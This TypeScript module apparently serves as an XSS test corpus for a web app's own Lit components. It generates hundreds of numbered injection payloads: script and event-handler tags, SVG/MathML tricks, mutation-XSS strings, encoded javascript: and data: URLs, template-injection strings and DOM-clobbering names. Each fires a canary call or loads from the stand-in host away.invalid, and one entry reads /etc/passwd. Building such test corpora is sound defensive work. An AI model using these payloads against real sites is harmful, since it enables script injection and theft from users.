// Our own attacks, as text. `N` in a call or an address becomes the payload's number, so that a hit names its attack.
// Where there are families (handlers, encodings, names) they are made, not copied.

/** What the page counts when it is called. */
const CALL = '__pwned(N)';
/** An address that must never be asked for. */
const AWAY = '//away.invalid/N';

/** Closes what it may stand in, then attacks. */
const BREAKOUTS = ['"', "'", '`', '>', '">', "'>", '-->', '--!>', ']]>', '/>', '</script>', '</style>', '</title>', '</textarea>', '</noscript>', '</template>', '</select>', '</option>', '</iframe>', '</xmp>', '</math>', '</svg>', '</button></form>', '\n"> ', '*/', '\\">', '%22%3E', '&quot;&gt;']
  .map((end) => `${end}<img src=x onerror=${CALL}>`);

const SCRIPTS = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<ScRiPt >${CALL}</sCrIpT >`, `<script src=${AWAY}></script>`, `<script/src="${AWAY}"></script>`, `<script type=module>${CALL}</script>`,
  `<script async defer>${CALL}//`, `<<script>${CALL}//<</script>`, `<script\n>${CALL}</script\n>`, `<script\u0000>${CALL}</script>`, `<scr\u0000ipt>${CALL}</scr\u0000ipt>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script>/*<!--*/${CALL}/*-->*/</script>`, `<script>//<![CDATA[\n${CALL}\n//]]></script>`, `<script language="VBScript">${CALL}</script>`, `<script type="text/javascript;version=1.8">${CALL}</script>`,
  `<script nonce="">${CALL}</script>`, `<script>import("${AWAY}")</script>`, `<script type=importmap>{"imports":{"lit":"${AWAY}"}}</script>`, `<script>eval('${CALL}')</script>`, `<script>setTimeout('${CALL}')</script>`,
  `<script>Function('${CALL}')()</script>`, `<script>alert(N)</script>`, `<script>confirm(N)</script>`, `<script>prompt(N)</script>`, `<script>open('${AWAY}')</script>`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`, `%3Cscript%3E${CALL}%3C/script%3E`, `＜script＞${CALL}＜/script＞`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `<ſcript>${CALL}</ſcript>`,
];

/** On an element that fires by itself, or that a person would touch. */
const HANDLERS = [
  ...['onload', 'onerror', 'onbeforescriptexecute', 'onanimationstart', 'ontransitionend', 'onpageshow', 'onhashchange', 'onmessage', 'onresize', 'onscroll', 'onfocus', 'onblur', 'ontoggle', 'onbegin', 'onend', 'onrepeat'],
  ...['onclick', 'ondblclick', 'onmousedown', 'onmouseover', 'onmouseenter', 'onwheel', 'onkeydown', 'oninput', 'onbeforeinput', 'onchange', 'onsubmit', 'oninvalid', 'onselect', 'oncopy', 'onpaste', 'ondrop', 'ondragstart', 'onpointerdown', 'onpointerover', 'ontouchstart', 'onauxclick', 'oncontextmenu', 'onbeforetoggle', 'oncuechange', 'onsearch', 'onslotchange', 'onsecuritypolicyviolation'],
].map((name, at) => {
  const tag = ['img src=x', 'body', 'svg', 'video src=x', 'details open', 'input autofocus', 'a href=#', 'p tabindex=0'][at % 8];
  const sign = ['"', "'", '', '`'][at % 4];
  return `<${tag} ${name}=${sign}${CALL}${sign}>`;
});

const SHAPES = [
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}//`, `<svg><script>${CALL}</script></svg>`, `<svg><script href=${AWAY} /></svg>`, `<svg><script>&#95;&#95;pwned(N)</script>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${CALL}></svg>`, `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:${CALL}'/></svg>#x">`,
  `<svg><image href=x onerror=${CALL}>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></foreignObject></svg>`, `<svg><style><img src=x onerror=${CALL}></style></svg>`, `<svg><title><img src=x onerror=${CALL}></title></svg>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`, `<math href="javascript:${CALL}">x</math>`, `<math><maction actiontype="statusline" xlink:href="javascript:${CALL}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`, `<iframe srcdoc="<img src=x onerror=parent.${CALL}>"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;">`, `<iframe src=${AWAY}>`, `<iframe onload=${CALL}>`, `<frameset onload=${CALL}>`,
  `<object data="javascript:${CALL}"></object>`, `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`, `<embed src="javascript:${CALL}">`, `<embed src=${AWAY}>`, `<applet code=x>`, `<base href=${AWAY}/>`, `<link rel=stylesheet href=${AWAY}>`, `<link rel=import href=${AWAY}>`,
  `<link rel=prefetch href=${AWAY}>`, `<link rel=preload as=script href=${AWAY}>`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta name=referrer content=unsafe-url>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`, `<button formaction="javascript:${CALL}">x</button>`, `<input type=image src=x onerror=${CALL}>`, `<isindex action="javascript:${CALL}" type=image>`, `<a href="javascript:${CALL}">x</a>`, `<a href=${AWAY} ping=${AWAY}>x</a>`,
  `<area href="javascript:${CALL}" shape=default>`, `<video><source onerror=${CALL}></video>`, `<video poster=${AWAY}></video>`, `<audio src=x onerror=${CALL}>`, `<img src=${AWAY}>`, `<img srcset="${AWAY} 1x">`, `<picture><source srcset=${AWAY}><img></picture>`, `<img src="x:gif" alt="" onerror="${CALL}" style="display:none">`,
  `<table background="javascript:${CALL}">`, `<td background=${AWAY}>`, `<bgsound src="javascript:${CALL}">`, `<layer src=${AWAY}>`, `<marquee onstart=${CALL}>`, `<marquee loop=1 width=0 onfinish=${CALL}>x</marquee>`, `<keygen autofocus onfocus=${CALL}>`, `<details open ontoggle=${CALL}>`,
  `<dialog open onclose=${CALL}><form method=dialog><button>x</button></form></dialog>`, `<div popover id=p onbeforetoggle=${CALL}>x</div><button popovertarget=p>x</button>`, `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`, `<template><script>${CALL}</script></template>`,
  `<dvc-form src="data:application/json,{}"></dvc-form>`, `<dvc-combobox></dvc-combobox>`, `<x-y is=z onclick=${CALL}>`, `<slot onslotchange=${CALL}></slot>`, `<portal src=${AWAY}></portal>`, `<fencedframe src=${AWAY}></fencedframe>`, `<plaintext>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<textarea autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<input value="x" onfocus=${CALL} autofocus>`, `<img/src=x/onerror=${CALL}>`, `<img src=x onerror\n=\n${CALL}>`, `<img src=x o\u0000nerror=${CALL}>`, `<img src=x onerror=&#95;&#95;pwned&#40;N&#41;>`, `<img src=x onerror=\\u005f_pwned(N)>`,
  `<image src=x onerror=${CALL}>`, `<IMG SRC=X ONERROR=${CALL}>`, `<img src=x:x onerror\u000b=${CALL}>`, `<img \u00a0src=x onerror=${CALL}>`, `<!--><img src=x onerror=${CALL}>-->`, `<!--<img src="--><img src=x onerror=${CALL}//">`, `<?xml-stylesheet href="javascript:${CALL}"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "${AWAY}">]>&e;`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`, `</br/onclick=${CALL}>`, `<x onclick=${CALL}>x`, `<a\thref="java\tscript:${CALL}">x</a>`, `<div contenteditable autofocus onfocus=${CALL}>`, `<div style="position:fixed;inset:0" onpointerover=${CALL}></div>`,
];

/** Read by the parser otherwise than written out: harmless until somebody serialises and parses again. */
const MUTATIONS = [
  `<noscript><style></noscript><img src=x onerror=${CALL}>`, `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`, `<math><mi><table><mi><mglyph><style><img src=x onerror=${CALL}></style>`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`, `<svg><p><style><g title="</style><img src=x onerror=${CALL}>">`, `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`, `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror=${CALL}&gt;">x</a>`, `<p id="\`\` onclick=${CALL}">x</p>`, `<img alt="\`\`onerror=${CALL}" src=x>`, `<select><style></select><img src=x onerror=${CALL}></style>`, `<table><td><template><td></template><img src=x onerror=${CALL}>`,
  `&lt;img src=x onerror=${CALL}&gt;`, `&amp;lt;img src=x onerror=${CALL}&amp;gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `&#x3c;img src=x onerror=${CALL}&#x3e;`, `&#0000060img src=x onerror=${CALL}>`, `&LT;img src=x onerror=${CALL}&GT;`, `&lpar;${CALL}&rpar;`,
];

/** As an address: of a link, an image, a document, a redirect. */
const code = (text: string, write: (sign: number) => string) => [...text].map((sign) => write(sign.codePointAt(0)!)).join('');
const SCHEME = `${'javascript'}:`;
const ADDRESSES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `\tjavascript:${CALL}`, `\njavascript:${CALL}`, `\u0001javascript:${CALL}`, `\u0000javascript:${CALL}`, `\u00a0javascript:${CALL}`, `\u200bjavascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `java\rscript:${CALL}`, `javascript\t:${CALL}`, `javascript\u0000:${CALL}`,
  `${code(SCHEME, (sign) => `&#${sign};`)}${CALL}`, `${code(SCHEME, (sign) => `&#x${sign.toString(16)};`)}${CALL}`, `${code(SCHEME, (sign) => `&#${String(sign).padStart(7, '0')}`)}${CALL}`, `${code(SCHEME, (sign) => `%${sign.toString(16)}`)}${CALL}`, `${code(SCHEME, (sign) => `\\x${sign.toString(16)}`)}${CALL}`, `${code(SCHEME, (sign) => `\\u00${sign.toString(16)}`)}${CALL}`,
  `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `jav&Tab;ascript&colon;${CALL}`, `jav&NewLine;ascript:${CALL}`, `javascript://x/%0a${CALL}`, `javascript://%0d%0a${CALL}`, `javascript:/*--></title></style></textarea></script>*/${CALL}`, `javascript:void(${CALL})`, `javascript:"<script>${CALL}</script>"`, `javascript:\u2028${CALL}`, `ｊavascript:${CALL}`, `jаvascript:${CALL}`,
  `vbscript:${CALL}`, `VBSCRIPT:msgbox(N)`, `livescript:${CALL}`, `mocha:${CALL}`, `jar:javascript:${CALL}`, `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`, `blob:${CALL}`, `filesystem:javascript:${CALL}`, `about:blank#${CALL}`, `data:text/html,<script>parent.${CALL}</script>`,
  `data:text/html;base64,${btoa("<script>parent.__pwned(0)</script>")}`, `data:text/html;charset=utf-7,+ADw-script+AD4-${CALL}`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`, `data:text/javascript,${CALL}`, `data:application/json,{"kind":"form","title":"<img src=x onerror=${CALL}>"}`, `DATA:,${CALL}`,
  `http:${AWAY}`, `https:${AWAY}`, AWAY, `\\\\away.invalid\\N`, `/\\away.invalid/N`, `https:away.invalid/N`, `https:///away.invalid/N`, `http://127.0.0.1@away.invalid/N`, `//away。invalid/N`, `ftp:${AWAY}`, `ws:${AWAY}`, `file:///etc/passwd`, `#"><img src=x onerror=${CALL}>`, `?x=<script>${CALL}</script>`,
];

const TEMPLATES = [
  '{{constructor.constructor("__pwned(N)")()}}', '{{[].pop.constructor("__pwned(N)")()}}', "{{$on.constructor('__pwned(N)')()}}", '{{7*7}}', '{{{<img src=x onerror=__pwned(N)>}}}', '${__pwned(N)}', '${`${__pwned(N)}`}', '#{__pwned(N)}', '@{__pwned(N)}', '*{__pwned(N)}', '<%= __pwned(N) %>', '<% __pwned(N) %>', '{%__pwned(N)%}', '[[__pwned(N)]]', '[(__pwned(N))]',
  '{__pwned(N)}', '{label}', '{Label} {limit} {n:one|many} {title}', '{constructor}', '{__proto__}', '$&$1$`$\'$$', '%s %d %o %c', '\\${__pwned(N)}', '`+__pwned(N)+`', "'+__pwned(N)+'", '"+__pwned(N)+"', "';__pwned(N)//", '");__pwned(N)//', '})();__pwned(N);(()=>{', '__pwned`N`', `${SCHEME}__pwned\`N\``, '<div v-html="__pwned(N)">', '<div ng-app ng-csp>{{$eval.constructor("__pwned(N)")()}}</div>', '<div x-data x-init="__pwned(N)">', '<img [src]="x" (error)="__pwned(N)">', '<div @click="${__pwned(N)}">', '<div .innerHTML="<img src=x onerror=__pwned(N)>">',
];

/** What Lit puts into its templates to find them again; the page makes the random part known (see xss-page). */
const MARK = 'lit$123456789$';
const LIT = [
  `<!--?${MARK}-->`, `<?${MARK}>`, `${MARK}`, `<!--${MARK}0-->`, `<!--?lit$-->`, `{{lit-123456789}}`, `{{lit-N}}`, `<a ${MARK}="x" onclick=${CALL}>`, `$lit$`, `class$lit$="x" onclick=${CALL}`, `<!--?${MARK}--><img src=x onerror=${CALL}><!--?${MARK}-->`, `<${MARK}-0>`, `<textarea>${MARK}</textarea>`, `"><!--?${MARK}-->"`, `<!---->`, `<!--lit-part--><img src=x onerror=${CALL}><!--/lit-part-->`, `<!--lit-node 0-->`, `@click=${CALL}`, `.innerHTML=${CALL}`, `?hidden=${CALL}`,
];

const STYLES = [
  `<style>@import "${AWAY}";</style>`, `<style>*{background:url(${AWAY})}</style>`, `<style>*{x:expression(${CALL})}</style>`, `<p style="background:url(${AWAY})">`, `<p style="x:expression(${CALL})">`, `<p style="-moz-binding:url(${AWAY})">`, `<p style="behavior:url(${AWAY})">`, `<p style=animation-name:x onanimationstart=${CALL}>`, `}</style><img src=x onerror=${CALL}>`, `} * { background: url(${AWAY}) } a {`,
  `url(${AWAY})`, `url("javascript:${CALL}")`, `expression(${CALL})`, `;background:url(${AWAY});`, `red;}:host{display:none}*{`, `@import url(${AWAY});`, `@font-face{font-family:x;src:url(${AWAY})}`, `\\75 rl(${AWAY})`, `var(--x,url(${AWAY}))`, `/**/expression/**/(${CALL})`, `</style><link rel=stylesheet href=${AWAY}>`,
];

/** Read from right to left, or not at all, or as two signs in one. */
const SIGNS = [
  `\u202e<img src=x onerror=${CALL}>`, `\u2066<script>${CALL}</script>\u2069`, `\u200f"><svg onload=${CALL}>`, `\ufeff<script>${CALL}</script>`, `<\u200bscript>${CALL}</script>`, `<img\u2028src=x\u2029onerror=${CALL}>`, `\ud83d<img src=x onerror=${CALL}>`, `<img src=x onerror=${CALL}>\udc00`, `\u{1F1FB}\u{1F1F3}"><img src=x onerror=${CALL}>`, `e\u0301<img src=x onerror=${CALL}>`, `İ<img src=x onerror=${CALL}>`, `ﬁ"><img src=x onerror=${CALL}>`,
  `\u0000<img src=x onerror=${CALL}>`, `<\u0000img src=x onerror=${CALL}>`, `\u001b[31m<img src=x onerror=${CALL}>`, `\u0085<img src=x onerror=${CALL}>`, `${'"'.repeat(40)}><img src=x onerror=${CALL}>`, `${'<'.repeat(80)}img src=x onerror=${CALL}>`, `${'Họ và tên '.repeat(30)}<img src=x onerror=${CALL}>`, `\r\n\r\n<script>${CALL}</script>`,
];

/** Names that an element, a form or Lit has already: as a text and as an id. */
const NAMES = [
  'submit', 'action', 'attributes', 'children', 'innerHTML', 'parentNode', 'ownerDocument', 'nodeName', 'elements', 'length', 'reset', 'method', 'id', 'name', 'style', 'getAttribute', 'addEventListener', 'querySelector', 'shadowRoot', 'renderRoot', 'render', 'updateComplete', 'requestUpdate', 'document', 'cookie', 'location', 'body', 'forms', 'currentScript', 'defaultView', 'getElementById', 'createElement',
  'hasOwnProperty', 'isPrototypeOf', 'then', 'length', 'prototype', 'data', 'payload', 'schema', 'scene', 'f1', 'dvc-said', 'dvc-step-title', '$lit$', 'window', 'self', 'top', 'parent', 'alert', 'trustedTypes', 'litHtmlVersions',
].flatMap((name, at) => (at % 2 ? [name] : [`<a id=${name}><a id=${name} name=${name} href="javascript:${CALL}">`]));

/** All of them, none twice, each with its number in. */
export const PAYLOADS: readonly string[] = [...new Set([...SCRIPTS, ...BREAKOUTS, ...HANDLERS, ...SHAPES, ...MUTATIONS, ...ADDRESSES, ...TEMPLATES, ...LIT, ...STYLES, ...SIGNS, ...NAMES])]
  .map((payload, number) => payload.replace(/(?<=[(/`\\;-])N\b/g, String(number)));

/** `count` of them, taken evenly from every family, none before `from`. */
export const some = (count: number, from = 0): number[] => {
  const left = PAYLOADS.length - from;
  return Array.from({ length: Math.min(count, left) }, (_, at) => from + Math.floor((at * left) / Math.min(count, left)));
};
